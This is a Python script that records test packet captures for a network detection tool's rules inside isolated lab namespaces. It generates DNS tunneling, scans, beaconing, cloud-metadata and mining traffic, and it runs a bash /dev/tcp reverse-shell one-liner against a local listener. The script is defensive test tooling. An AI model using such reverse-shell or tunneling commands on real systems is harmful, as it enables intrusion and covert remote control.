#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""record.py TRACEE FOLDER [NAME…]: records the captures of the shipped rules anew.

Real clients and servers speak in two network namespaces of their own, joined by a veth
pair. What needs owners is written by tracee itself, the rest by tcpdump at the client.
Where a rule waits for minutes, the traffic takes seconds and the times of its packets are
stretched afterwards. Needs root and the Debian packages iproute2, tcpdump, dnsmasq-base,
bind9-dnsutils, curl, netcat-openbsd, iputils-ping and python3.
"""
import base64
import hashlib
import os
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time

CLIENT, SERVER = f"rules_client_{os.getpid()}", f"rules_server_{os.getpid()}"
HERE, THERE = "192.0.2.2", "192.0.2.1"

# A server that connects to the port its client asks for.
RELAY = """
import http.server, socket
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with socket.create_connection(("192.0.2.1", int(self.path[1:]))) as peer:
            peer.sendall(b"x")
        self.send_response(204)
        self.end_headers()
    def log_message(self, *args):
        pass
http.server.HTTPServer(("192.0.2.2", 8000), Handler).serve_forever()
"""


def run(*command, **more):
    return subprocess.run(command, check=True, **more)


def inside(name, *command):
    return ("ip", "netns", "exec", name, *command)


def client(*command, check=True, **more):
    return subprocess.run(inside(CLIENT, *command), check=check, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, **more)


def eventually(what, holds):
    for _ in range(300):
        if holds():
            return
        time.sleep(0.05)
    sys.exit(f"record.py: {what} did not come")


def stretched(data, factor):
    """The packets of a capture, each so many times as late after the first."""
    out = bytearray(data)
    first = None

    def later(value):
        nonlocal first
        first = value if first is None else first
        return first + (value - first) * factor

    if data[:4] == b"\x0a\x0d\x0d\x0a":
        at = 0
        while at < len(out):
            kind, size = struct.unpack_from("<II", out, at)
            if kind == 6:
                high, low = struct.unpack_from("<II", out, at + 12)
                value = later(high << 32 | low)
                struct.pack_into("<II", out, at + 12, value >> 32, value & 0xFFFFFFFF)
            at += size
        return bytes(out)
    at = 24
    while at < len(out):
        seconds, micros, size = struct.unpack_from("<III", out, at)
        value = later(seconds * 1_000_000 + micros)
        struct.pack_into("<II", out, at, value // 1_000_000, value % 1_000_000)
        at += 16 + size
    return bytes(out)


class Recorder:
    def __init__(self, tracee, folder):
        self.tracee, self.folder = os.path.abspath(tracee), folder
        self.work = tempfile.mkdtemp()
        self.started = []

    # ---- the network

    def build(self):
        for name in (CLIENT, SERVER):
            run("ip", "netns", "add", name)
            run(*inside(name, "ip", "link", "set", "lo", "up"))
        run("ip", "link", "add", "c0", "netns", CLIENT, "type", "veth", "peer", "name", "s0",
            "netns", SERVER)
        for name, device, address in ((CLIENT, "c0", HERE), (SERVER, "s0", THERE)):
            run(*inside(name, "sysctl", "-qw", f"net.ipv6.conf.{device}.disable_ipv6=1"))
            run(*inside(name, "ip", "addr", "add", address + "/24", "dev", device))
            run(*inside(name, "ip", "link", "set", device, "up"))
        run(*inside(CLIENT, "ip", "route", "add", "default", "via", THERE))
        # The server has every address that somebody may ask for.
        for network in ("198.51.100.0/24", "169.254.169.254/32", "10.0.0.53/32"):
            run(*inside(SERVER, "ip", "route", "add", "local", network, "dev", "lo"))

    def close(self):
        for process in reversed(self.started):
            if process.poll() is None:
                process.send_signal(signal.SIGTERM)
                process.wait()
        for name in (CLIENT, SERVER):
            subprocess.run(("ip", "netns", "del", name), check=False)
        shutil.rmtree(self.work)

    def start(self, *command, **more):
        process = subprocess.Popen(command, stderr=subprocess.DEVNULL, **more)
        self.started.append(process)
        return process

    def end(self, process, number=signal.SIGTERM):
        process.send_signal(number)
        process.wait()
        self.started.remove(process)

    def dns(self, *records):
        """A server of everything below test., which knows these records."""
        server = self.start(*inside(SERVER, "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null",
                                    "--no-resolv", "--no-hosts", "--pid-file=", "--user=root",
                                    "--local=/test/", "--local=/com/",
                                    "--address=/tunnel.test/198.51.100.7",
                                    "--host-record=www.example.test,198.51.100.10", *records))
        eventually("dnsmasq", lambda: client("dig", "+time=1", "+tries=1", f"@{THERE}",
                                             "www.example.test", check=False).returncode == 0)
        return server

    def ask(self, name, kind="A", server=THERE):
        client("dig", "+time=2", "+tries=1", "+noedns", f"@{server}", name, kind, check=False)

    def web(self):
        site = os.path.join(self.work, "site")
        os.makedirs(site, exist_ok=True)
        for name in ("index.html", "private", "tool.sh", "page.txt"):
            with open(os.path.join(site, name), "w", encoding="ascii") as file:
                file.write("#!/bin/sh\necho hello\n" if name.endswith(".sh") else "hello\n")
        server = self.start(*inside(SERVER, "/usr/bin/python3", "-m", "http.server", "80"), cwd=site,
                            stdout=subprocess.DEVNULL)
        self.opened(SERVER, 80)
        return server

    def opened(self, name, port):
        def listens():
            shown = subprocess.run(inside(name, "ss", "-Hltn", f"sport = :{port}"), check=True,
                                   capture_output=True)
            return shown.stdout != b""
        eventually(f"port {port}", listens)

    def listen(self, port, **more):
        server = self.start(*inside(SERVER, "nc", "-l", "-k", THERE, str(port)),
                            stdout=subprocess.DEVNULL, **more)
        self.opened(SERVER, port)
        return server

    def get(self, path, *more):
        client("curl", "-sS", "-m", "5", "--noproxy", "*", "-H", "Host: www.example.test", *more,
               f"http://{THERE}{path}", check=False)

    # ---- capturing

    def capture(self, name, traffic, factor=1, packets="ip"):
        """What `traffic` does, as tcpdump sees it at the client."""
        path = os.path.join(self.work, name)
        log = open(os.path.join(self.work, "tcpdump.log"), "w+", encoding="utf-8")
        dump = subprocess.Popen(inside(CLIENT, "tcpdump", "-i", "c0", "-w", path, "-Z", "root", "-U",
                                       "-s", "0", "--immediate-mode", packets), stderr=log)
        self.started.append(dump)
        eventually("tcpdump", lambda: "listening on" in open(log.name, encoding="utf-8").read())
        traffic()
        size = -1
        while size != os.path.getsize(path):
            size = os.path.getsize(path)
            time.sleep(0.3)
        self.end(dump, signal.SIGINT)
        self.keep(name, factor)

    def trace(self, name, command, traffic=lambda: None, factor=1, packets="ip"):
        """What `command` sends and receives at the client, as tracee writes it."""
        path = os.path.join(self.work, name)
        trace = self.start(self.tracee, "-w", path, "--pcap-filter", packets, "--", *inside(CLIENT, *command))
        traffic()
        trace.wait()
        self.started.remove(trace)
        self.keep(name, factor)

    def keep(self, name, factor):
        with open(os.path.join(self.work, name), "rb") as file:
            data = file.read()
        with open(os.path.join(self.folder, name), "wb") as file:
            file.write(stretched(data, factor) if factor > 1 else data)
        print(f"{name}: {len(data)} bytes")

    # ---- the captures, by name

    def dns_tunnel_names(self):
        server = self.dns()

        def traffic():
            for i in range(22):
                data = base64.b32encode(hashlib.sha256(str(i).encode()).digest()[:20]).decode()
                self.ask(f"{data.lower()}.t.tunnel.test")
        self.capture("dns_tunnel_names.pcap", traffic, packets="udp dst port 53")
        self.end(server)

    def dns_tunnel_types(self):
        server = self.dns()

        def traffic():
            for i in range(27):
                self.ask(f"c{i:04x}.tunnel.test", "A" if i % 9 == 0 else "TXT")
        self.capture("dns_tunnel_types.pcap", traffic, packets="udp dst port 53")
        self.end(server)

    def dns_ordinary(self):
        """Names of every length, again and again, and mixed types."""
        server = self.dns("--host-record=rebind.example.test,198.51.100.9",
                          "--host-record=intranet.example.test,10.0.0.5")

        def traffic():
            for i in range(6):
                self.ask("www.example.test")
                self.ask("d111111abcdef8.cloudfront-cdn-edge-location.example.test")
                self.ask("www.example.test", "AAAA")
                self.ask("example.test", "MX")
                self.ask(f"host{i}.example.test", "TXT")
                self.ask("rebind.example.test")
                self.ask("intranet.example.test")
        self.capture("dns_ordinary.pcap", traffic, packets="udp port 53")
        self.end(server)

    def dns_nxdomain_burst(self):
        server = self.dns()

        def traffic():
            for i in range(22):
                name = hashlib.sha256(f"dga{i}".encode()).hexdigest()[:12]
                self.ask(f"{name}.com")
        self.capture("dns_nxdomain_burst.pcap", traffic, packets="udp port 53")
        self.end(server)

    def dns_search_list(self):
        """Names that do not exist, all in one domain."""
        server = self.dns()
        self.capture("dns_search_list.pcap",
                     lambda: [self.ask(f"printer{i}.office.example.test") for i in range(24)],
                     packets="udp port 53")
        self.end(server)

    def dns_resolver_bypass(self):
        server = self.dns()
        self.capture("dns_resolver_bypass.pcap",
                     lambda: [self.ask("www.example.test", server="198.51.100.53") for _ in "ab"],
                     packets="udp port 53")
        self.end(server)

    def dns_own_resolver(self):
        server = self.dns()
        self.capture("dns_own_resolver.pcap",
                     lambda: self.ask("www.example.test", server="10.0.0.53"),
                     packets="udp port 53")
        self.end(server)

    def dns_rebinding(self):
        def traffic():
            for address in ("198.51.100.9", "10.0.0.5"):
                server = self.dns(f"--host-record=rebind.example.test,{address}")
                self.ask("rebind.example.test")
                self.end(server)
        self.capture("dns_rebinding.pcap", traffic, packets="udp port 53")

    def reverse_shell(self):
        with open(os.path.join(self.work, "orders"), "w", encoding="ascii") as file:
            file.write("echo hello\nexit\n")
        with open(os.path.join(self.work, "orders"), encoding="ascii") as orders:
            server = self.start(*inside(SERVER, "nc", "-l", THERE, "4444"), stdin=orders,
                                stdout=subprocess.DEVNULL)
        self.opened(SERVER, 4444)
        self.trace("reverse_shell.pcapng",
                   ("bash", "--norc", "-c",
                    f"exec bash --norc -i >/dev/tcp/{THERE}/4444 2>&1 <&1"))
        self.end(server)

    def shell_and_curl(self):
        server = self.web()
        self.trace("shell_and_curl.pcapng",
                   ("bash", "--norc", "-c", f"curl -sS --noproxy '*' http://{THERE}/page.txt; true"))
        self.end(server)

    def port_scan(self):
        self.capture("port_scan.pcap",
                     lambda: [client("nc", "-z", "-w", "1", THERE, f"{i}-{i + 3}", check=False)
                              for i in range(1, 33, 4)], packets="tcp")

    def host_sweep(self):
        self.capture("host_sweep.pcap",
                     lambda: [client("nc", "-z", "-w", "1", f"198.51.100.{i}", "22", check=False)
                              for i in range(1, 28)], packets="tcp")

    def web_browsing(self):
        servers = [self.web(), self.dns()]

        def traffic():
            for path in ("/", "/page.txt", "/none.html", "/missing.sh"):
                self.ask("www.example.test")
                self.get(path)
        self.capture("web_browsing.pcap", traffic, packets="tcp or udp port 53")
        for server in servers:
            self.end(server)

    def one_request(self, name, path, *more):
        server = self.web()
        self.capture(name, lambda: self.get(path, *more), packets="tcp")
        self.end(server)

    def http_credentials(self):
        self.one_request("http_credentials.pcap", "/private", "-u", "user:secret")

    def http_user_agent(self):
        self.one_request("http_user_agent.pcap", "/", "-A", "Mozilla/5.00 (Nikto/2.1.6)")

    def http_executable(self):
        self.one_request("http_executable.pcap", "/tool.sh")

    def cloud_metadata(self):
        server = self.web()
        self.capture("cloud_metadata.pcap",
                     lambda: client("curl", "-sS", "-m", "5", "--noproxy", "*",
                                    "http://169.254.169.254/page.txt"), packets="tcp")
        self.end(server)

    def icmp_tunnel(self):
        self.capture("icmp_tunnel.pcap",
                     lambda: client("ping", "-i", "0.05", "-c", "11", "-s", "300", THERE),
                     packets="icmp")

    def icmp_ping(self):
        self.capture("icmp_ping.pcap", lambda: client("ping", "-i", "0.05", "-c", "14", THERE),
                     packets="icmp")

    def knock(self, pauses):
        for pause in pauses:
            client("nc", "-z", "-w", "1", THERE, "8443", check=False)
            time.sleep(pause)

    def beaconing(self):
        server = self.listen(8443)
        self.capture("beaconing.pcap", lambda: self.knock([1] * 9), factor=60, packets="tcp")
        self.end(server)

    def irregular(self):
        server = self.listen(8443)
        self.capture("irregular.pcap",
                     lambda: self.knock([0.2, 1.4, 0.5, 2, 0.1, 0.9, 0.3, 1.7, 0.6, 1.1, 0.2]),
                     factor=60, packets="tcp")
        self.end(server)

    def served(self, name, ports):
        """A server's process connects to these ports, one a client."""
        servers = [self.listen(5432), self.listen(4444)]

        def traffic():
            self.opened(CLIENT, 8000)
            for port in ports:
                run(*inside(SERVER, "curl", "-sS", "-m", "5", "--noproxy", "*",
                            f"http://{HERE}:8000/{port}"))
                time.sleep(0.5)
            found = subprocess.run(("ip", "netns", "pids", CLIENT), check=True, capture_output=True,
                                   text=True).stdout.split()
            for pid in found:
                os.kill(int(pid), signal.SIGTERM)
        relay = os.path.join(self.work, "relay.py")
        with open(relay, "w", encoding="ascii") as file:
            file.write(RELAY)
        self.trace(name, ("/usr/bin/python3", relay), traffic, factor=600,
                   packets="tcp[tcpflags] & tcp-syn != 0")
        for server in servers:
            self.end(server)

    def server_new_port(self):
        self.served("server_new_port.pcapng", [5432, 5432, 5432, 5432, 4444])

    def server_known_ports(self):
        self.served("server_known_ports.pcapng", [5432, 4444, 5432, 4444, 4444])

    def mining(self):
        server = self.dns()

        def traffic():
            self.ask("xmr.pool.minexmr.com")
            client("nc", "-z", "-w", "1", THERE, "3333", check=False)
        self.capture("mining.pcap", traffic, packets="tcp or udp port 53")
        self.end(server)


ALL = ("dns_tunnel_names dns_tunnel_types dns_ordinary dns_nxdomain_burst dns_search_list "
       "dns_resolver_bypass dns_own_resolver dns_rebinding reverse_shell shell_and_curl port_scan "
       "host_sweep web_browsing http_credentials http_user_agent http_executable cloud_metadata "
       "icmp_tunnel icmp_ping beaconing irregular server_new_port server_known_ports mining").split()


def main(tracee, folder, *names):
    recorder = Recorder(tracee, folder)
    try:
        recorder.build()
        for name in names or ALL:
            getattr(recorder, name)()
    finally:
        recorder.close()


main(*sys.argv[1:])
